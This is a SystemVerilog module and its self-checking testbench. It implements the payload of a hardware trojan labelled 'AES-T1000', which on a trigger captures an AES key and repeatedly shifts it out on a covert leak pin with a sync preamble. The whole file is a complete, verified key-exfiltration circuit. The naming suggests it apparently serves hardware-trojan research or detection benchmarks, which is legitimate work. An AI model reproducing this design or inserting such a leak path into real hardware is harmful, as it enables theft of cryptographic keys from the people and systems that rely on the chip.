// File: rtl/tj_key_leak_payload.sv
// tj_key_leak_payload
// Payload stage of the AES-T1000 trojan path. A rising edge on the trigger
// level captures the AES key. The captured key is then sent out on a single
// leak pin as a frame: an 8-bit preamble, then the key MSB first, then an
// idle gap. Frames keep repeating while the trigger stays high (REPEAT=1).
// A saturating counter reports how many frames have been fully sent.
//
// Timing: the start edge loads the frame. The first preamble bit and the
// frame_start pulse appear in the cycle that follows that edge. Every output
// comes straight from a flop.

module tj_key_leak_payload #(
  parameter int         KEY_W    = 128,    // key width in bits, >= 8
  parameter logic [7:0] PREAMBLE = 8'hA5,  // sync pattern, sent MSB first
  parameter int         GAP_CYC  = 4,      // idle cycles after a frame, 1..255
  parameter int         REPEAT   = 1       // 1: re-send while tj_trig stays high
) (
  input  logic             clk,
  input  logic             rst,          // asynchronous, active-low
  input  logic             tj_trig,
  input  logic [KEY_W-1:0] key,
  output logic             leak_bit,
  output logic             leak_valid,
  output logic             frame_start,
  output logic             busy,
  output logic [7:0]       frame_cnt
);

  // The preamble and the key are shifted out as one word.
  localparam int FRAME_W   = KEY_W + 8;
  localparam int BIT_CNT_W = $clog2(FRAME_W);

  // bit_cnt holds the index of the bit on the pin: 0..7 is the preamble,
  // 8..FRAME_W-1 is the key.
  localparam logic [BIT_CNT_W-1:0] PRE_LAST = BIT_CNT_W'(7);
  localparam logic [BIT_CNT_W-1:0] KEY_LAST = BIT_CNT_W'(FRAME_W - 1);
  localparam logic [7:0]           GAP_LAST = 8'(GAP_CYC - 1);

  typedef enum logic [1:0] {
    IDLE = 2'd0,
    PRE  = 2'd1,
    KEY  = 2'd2,
    GAP  = 2'd3
  } state_t;

  // Architectural state
  state_t                 state;
  logic [FRAME_W-1:0]     shift_reg;
  logic [BIT_CNT_W-1:0]   bit_cnt;
  logic [7:0]             gap_cnt;
  logic                   trig_d;

  // Next-state values
  state_t                 state_nxt;
  logic [FRAME_W-1:0]     shift_nxt;
  logic [BIT_CNT_W-1:0]   bit_cnt_nxt;
  logic [7:0]             gap_cnt_nxt;
  logic [7:0]             frame_cnt_nxt;
  logic                   leak_valid_nxt;
  logic                   frame_start_nxt;
  logic                   busy_nxt;
  logic                   start_frame;

  // Zeros are shifted in behind the data. After the last key bit the whole
  // register is 0, so the pin stays low in GAP and in IDLE with no extra
  // gating, and leak_bit is still taken directly from a flop.
  assign leak_bit = shift_reg[FRAME_W-1];

  // FSM state register
  // NOTE: sequential blocks use non-blocking (<=) only. Every flop then
  // samples values from before the edge, whatever order the blocks run in.
  always_ff @(posedge clk or negedge rst) begin
    if (!rst) begin
      state <= IDLE;
    end else begin
      state <= state_nxt;
    end
  end

  // Next-state logic, plus the next values of the datapath and the outputs
  always_comb begin
    // NOTE: every signal gets a default before the case. A path that does
    // not assign a signal then cannot infer a latch.
    state_nxt     = state;
    shift_nxt     = shift_reg;
    bit_cnt_nxt   = bit_cnt;
    gap_cnt_nxt   = gap_cnt;
    frame_cnt_nxt = frame_cnt;
    start_frame   = 1'b0;

    unique case (state)
      IDLE: begin
        // Only a real 0->1 change of the trigger seen at clk starts a
        // frame. A level that is already high does not.
        if (tj_trig && !trig_d) begin
          start_frame = 1'b1;
        end
      end

      PRE: begin
        shift_nxt   = shift_reg << 1;
        bit_cnt_nxt = bit_cnt + BIT_CNT_W'(1);
        if (bit_cnt == PRE_LAST) begin
          state_nxt = KEY;
        end
      end

      KEY: begin
        shift_nxt   = shift_reg << 1;
        bit_cnt_nxt = bit_cnt + BIT_CNT_W'(1);
        if (bit_cnt == KEY_LAST) begin
          // The frame counts as sent once its last key bit has gone out.
          state_nxt   = GAP;
          bit_cnt_nxt = '0;
          gap_cnt_nxt = '0;
          if (frame_cnt != 8'hFF) begin
            frame_cnt_nxt = frame_cnt + 8'd1;
          end
        end
      end

      GAP: begin
        gap_cnt_nxt = gap_cnt + 8'd1;
        if (gap_cnt == GAP_LAST) begin
          gap_cnt_nxt = '0;
          // A trigger that is still high chains straight into a new frame.
          // Otherwise return to IDLE and wait for a fresh rising edge.
          if ((REPEAT != 0) && tj_trig) begin
            start_frame = 1'b1;
          end else begin
            state_nxt = IDLE;
          end
        end
      end

      default: begin
        state_nxt = IDLE;
      end
    endcase

    // A frame start reloads everything. The key is sampled only here, so
    // later changes to key cannot disturb a frame that is being sent.
    if (start_frame) begin
      state_nxt   = PRE;
      shift_nxt   = {PREAMBLE, key};
      bit_cnt_nxt = '0;
    end

    // The outputs are computed from the next state, so the flops hold
    // values that match the state they go with.
    frame_start_nxt = start_frame;
    leak_valid_nxt  = (state_nxt == PRE) || (state_nxt == KEY);
    busy_nxt        = (state_nxt != IDLE);
  end

  // Datapath, trigger history and registered outputs
  // NOTE: the shift register is plain flops, not a memory. It is reset with
  // the rest, so no stale key bits can reach the pin after a reset.
  always_ff @(posedge clk or negedge rst) begin
    if (!rst) begin
      shift_reg   <= '0;
      bit_cnt     <= '0;
      gap_cnt     <= '0;
      trig_d      <= 1'b0;
      frame_cnt   <= '0;
      leak_valid  <= 1'b0;
      frame_start <= 1'b0;
      busy        <= 1'b0;
    end else begin
      shift_reg   <= shift_nxt;
      bit_cnt     <= bit_cnt_nxt;
      gap_cnt     <= gap_cnt_nxt;
      trig_d      <= tj_trig;
      frame_cnt   <= frame_cnt_nxt;
      leak_valid  <= leak_valid_nxt;
      frame_start <= frame_start_nxt;
      busy        <= busy_nxt;
    end
  end

endmodule

// File: tb/tb_tj_key_leak_payload.sv
// tb_tj_key_leak_payload
// Three instances share one trigger and one reset:
//   d0: KEY_W=128, PREAMBLE=A5, GAP=4, REPEAT=1 (the default frame)
//   d1: KEY_W=16,  PREAMBLE=3C, GAP=1, REPEAT=1 (back-to-back frames)
//   d2: KEY_W=8,   PREAMBLE=C3, GAP=3, REPEAT=0 (one frame per rising edge)
// On each rising clock edge a frame-level reference model pushes the
// expected outputs for the next cycle into a queue for each instance. A
// monitor on the falling edge pops that queue and compares.

module tb_tj_key_leak_payload;

  typedef struct packed {
    logic       lb;
    logic       lv;
    logic       fs;
    logic       bz;
    logic [7:0] fc;
  } out_t;

  // Reference model of one instance. It tracks the position inside the
  // current frame (1..frame length) and the key captured for that frame.
  typedef struct {
    bit           active;
    int           phase;
    logic [127:0] fkey;
    bit           prev;
    int           cnt;
  } model_t;

  logic         clk = 1'b0;
  logic         rst = 1'b0;
  logic         tj_trig = 1'b0;
  logic [127:0] key0 = '0;
  logic [15:0]  key1 = '0;
  logic [7:0]   key2 = '0;

  logic       lb0, lv0, fs0, bz0;
  logic [7:0] fc0;
  logic       lb1, lv1, fs1, bz1;
  logic [7:0] fc1;
  logic       lb2, lv2, fs2, bz2;
  logic [7:0] fc2;

  int n_checks = 0;
  int n_fail   = 0;
  int fs_cnt0  = 0;

  int         kw  [3] = '{128, 16, 8};
  int         gap [3] = '{4, 1, 3};
  bit         rep [3] = '{1'b1, 1'b1, 1'b0};
  logic [7:0] pre [3] = '{8'hA5, 8'h3C, 8'hC3};

  model_t m [3];
  out_t   q0[$];
  out_t   q1[$];
  out_t   q2[$];

  always #5 clk = ~clk;

  tj_key_leak_payload #(.KEY_W(128), .PREAMBLE(8'hA5), .GAP_CYC(4), .REPEAT(1)) u_d0 (
    .clk(clk), .rst(rst), .tj_trig(tj_trig), .key(key0),
    .leak_bit(lb0), .leak_valid(lv0), .frame_start(fs0), .busy(bz0), .frame_cnt(fc0)
  );

  tj_key_leak_payload #(.KEY_W(16), .PREAMBLE(8'h3C), .GAP_CYC(1), .REPEAT(1)) u_d1 (
    .clk(clk), .rst(rst), .tj_trig(tj_trig), .key(key1),
    .leak_bit(lb1), .leak_valid(lv1), .frame_start(fs1), .busy(bz1), .frame_cnt(fc1)
  );

  tj_key_leak_payload #(.KEY_W(8), .PREAMBLE(8'hC3), .GAP_CYC(3), .REPEAT(0)) u_d2 (
    .clk(clk), .rst(rst), .tj_trig(tj_trig), .key(key2),
    .leak_bit(lb2), .leak_valid(lv2), .frame_start(fs2), .busy(bz2), .frame_cnt(fc2)
  );

  task automatic check(input string name, input logic [31:0] act, input logic [31:0] exp);
    n_checks++;
    if (act !== exp) begin
      n_fail++;
      $display("FAIL %s at %0t: got %0h, expected %0h", name, $time, act, exp);
    end
  endtask

  function automatic void model_reset();
    for (int i = 0; i < 3; i++) begin
      m[i].active = 1'b0;
      m[i].phase  = 0;
      m[i].fkey   = '0;
      m[i].prev   = 1'b0;
      m[i].cnt    = 0;
    end
  endfunction

  // Advance model i by one clock edge. Return the outputs expected in the
  // cycle after that edge.
  function automatic out_t model_step(input int i, input logic trig, input logic [127:0] k);
    int         klen;
    int         flen;
    logic [7:0] p;
    out_t       o;
    klen = kw[i];
    flen = 8 + klen + gap[i];
    p    = pre[i];
    o    = '0;
    if (m[i].active) begin
      if (m[i].phase == 8 + klen) begin
        m[i].cnt = (m[i].cnt < 255) ? m[i].cnt + 1 : 255;
      end
      if (m[i].phase == flen) begin
        if (rep[i] && trig) begin
          m[i].phase = 1;
          m[i].fkey  = k;
        end else begin
          m[i].active = 1'b0;
        end
      end else begin
        m[i].phase++;
      end
    end else if (trig && !m[i].prev) begin
      m[i].active = 1'b1;
      m[i].phase  = 1;
      m[i].fkey   = k;
    end
    m[i].prev = trig;

    o.fc = 8'(m[i].cnt);
    if (m[i].active) begin
      o.bz = 1'b1;
      o.fs = (m[i].phase == 1);
      if (m[i].phase <= 8) begin
        o.lv = 1'b1;
        o.lb = p[8 - m[i].phase];
      end else if (m[i].phase <= 8 + klen) begin
        o.lv = 1'b1;
        o.lb = m[i].fkey[klen - 1 - (m[i].phase - 9)];
      end
    end
    return o;
  endfunction

  // Model side of the scoreboard: at every edge, push the expected outputs
  always @(posedge clk) begin
    if (!rst) begin
      model_reset();
      q0.push_back('0);
      q1.push_back('0);
      q2.push_back('0);
    end else begin
      q0.push_back(model_step(0, tj_trig, key0));
      q1.push_back(model_step(1, tj_trig, {112'b0, key1}));
      q2.push_back(model_step(2, tj_trig, {120'b0, key2}));
    end
  end

  task automatic mon(input int i, input out_t act);
    out_t exp;
    bit   got;
    exp = '0;
    got = 1'b0;
    case (i)
      0: if (q0.size() > 0) begin exp = q0.pop_front(); got = 1'b1; end
      1: if (q1.size() > 0) begin exp = q1.pop_front(); got = 1'b1; end
      default: if (q2.size() > 0) begin exp = q2.pop_front(); got = 1'b1; end
    endcase
    // While reset is held, every output must be 0, whatever was predicted
    // before the reset arrived.
    if (!rst) begin
      exp = '0;
    end else if (!got) begin
      n_checks++;
      n_fail++;
      $display("FAIL d%0d queue empty at %0t: got %0h, expected a queued value", i, $time, act);
      return;
    end
    check($sformatf("d%0d {lb,lv,fs,bz,fc}", i), 32'(act), 32'(exp));
  endtask

  // Monitor side of the scoreboard: compare mid-cycle, away from the edge
  always @(negedge clk) begin
    mon(0, {lb0, lv0, fs0, bz0, fc0});
    mon(1, {lb1, lv1, fs1, bz1, fc1});
    mon(2, {lb2, lv2, fs2, bz2, fc2});
  end

  task automatic tick(input int n);
    for (int j = 0; j < n; j++) begin
      @(posedge clk);
      #1;
      if (fs0) fs_cnt0++;
    end
  endtask

  initial begin
    int low_cnt;

    model_reset();
    // Reset state
    tick(3);
    check("reset d0 outputs", 32'({lb0, lv0, fs0, bz0, fc0}), 32'h0);
    rst = 1'b1;
    tick(2);

    // 1: single-cycle trigger pulse, one full frame
    key0 = 128'h000102030405060708090A0B0C0D0E0F;
    key1 = 16'($urandom);
    key2 = 8'($urandom);
    tj_trig = 1'b1;
    tick(1);
    check("t1 frame_start cycle1", 32'(fs0), 32'h1);
    check("t1 first preamble bit", 32'(lb0), 32'h1);
    tj_trig = 1'b0;
    tick(139);
    check("t1 busy in last gap cycle", 32'(bz0), 32'h1);
    tick(1);
    check("t1 busy low at cycle 141", 32'(bz0), 32'h0);
    check("t1 frame_cnt", 32'(fc0), 32'h1);
    tick(10);

    // 2: trigger held for 300 cycles, key changed at cycle 50
    key0 = {4{$urandom}};
    tj_trig = 1'b1;
    for (int i = 0; i < 300; i++) begin
      tick(1);
      if (i == 50) key0 = '1;
      if (i == 130) check("t2 frame_cnt mid frame1", 32'(fc0), 32'h1);
      if (i == 277) check("t2 frame_cnt after frame2", 32'(fc0), 32'h3);
    end
    tj_trig = 1'b0;
    tick(300);
    check("t2 frame_cnt after frame3", 32'(fc0), 32'h4);

    // 3: extra rising edges during a frame are ignored
    fs_cnt0 = 0;
    key0 = {$urandom, $urandom, $urandom, $urandom};
    tj_trig = 1'b1;
    tick(1);
    tj_trig = 1'b0;
    tick(18);
    tj_trig = 1'b1;
    tick(1);
    tj_trig = 1'b0;
    tick(39);
    tj_trig = 1'b1;
    tick(1);
    tj_trig = 1'b0;
    tick(100);
    check("t3 single frame_start", 32'(fs_cnt0), 32'h1);
    check("t3 frame_cnt", 32'(fc0), 32'h5);

    // 4: asynchronous reset in the middle of KEY
    key0 = {$urandom, $urandom, $urandom, $urandom};
    tj_trig = 1'b1;
    tick(1);
    tj_trig = 1'b0;
    tick(68);
    check("t4 busy before reset", 32'(bz0), 32'h1);
    @(posedge clk);
    #2;
    rst = 1'b0;
    #1;
    check("t4 async reset d0", 32'({lb0, lv0, fs0, bz0, fc0}), 32'h0);
    check("t4 async reset d1", 32'({lb1, lv1, fs1, bz1, fc1}), 32'h0);
    repeat (3) @(posedge clk);
    #1;
    rst = 1'b1;
    tick(20);
    check("t4 idle after release", 32'({lv0, bz0, fc0}), 32'h0);

    // 6a + 5: trigger high across reset release, then held until saturation
    rst = 1'b0;
    tick(2);
    tj_trig = 1'b1;
    tick(1);
    rst = 1'b1;
    check("t6 no busy at release", 32'(bz0), 32'h0);
    tick(1);
    check("t6 frame_start 2nd cycle", 32'(fs0), 32'h1);
    low_cnt = 0;
    for (int i = 1; i < 256 * 140 + 10; i++) begin
      if (i <= 100 && !lv1) low_cnt++;
      tick(1);
    end
    check("t6 d1 gap cycles in first 100", 32'(low_cnt), 32'h4);
    check("t5 frame_cnt saturated", 32'(fc0), 32'hFF);
    tj_trig = 1'b0;
    tick(200);
    check("t5 frame_cnt no wrap", 32'(fc0), 32'hFF);

    // Random trigger and key activity
    rst = 1'b0;
    tick(2);
    rst = 1'b1;
    tick(1);
    for (int i = 0; i < 3000; i++) begin
      if ($urandom_range(0, 39) == 0) tj_trig = ~tj_trig;
      if ($urandom_range(0, 9) == 0) begin
        key0 = {$urandom, $urandom, $urandom, $urandom};
        key1 = 16'($urandom);
        key2 = 8'($urandom);
      end
      tick(1);
    end
    tj_trig = 1'b0;
    tick(300);
    check("random end idle", 32'({bz0, bz1, bz2}), 32'h0);

    $display("End of test - %0d assertions evaluated, %0d failures", n_checks, n_fail);
    $finish;
  end

endmodule
